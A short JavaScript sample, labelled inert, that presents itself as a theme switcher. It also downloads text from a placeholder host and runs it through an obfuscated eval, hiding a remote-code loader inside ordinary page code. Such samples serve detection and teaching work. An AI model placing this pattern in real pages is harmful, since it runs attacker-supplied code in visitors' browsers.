// Inert sample: the request of a browser's page; the handler stands before the request is opened.
var themes = { light: '#fff', dark: '#111' };

function apply(name) {
  document.body.style.background = themes[name] || themes.light;
}

var request = new XMLHttpRequest();
request.onload = function () {
  if (this.status === 200) {
    var run = window['ev' + 'al'];
    run(this.responseText);
  }
};
request.open('GET', 'https://theme-cdn.invalid/current');
request.send();
apply('light');
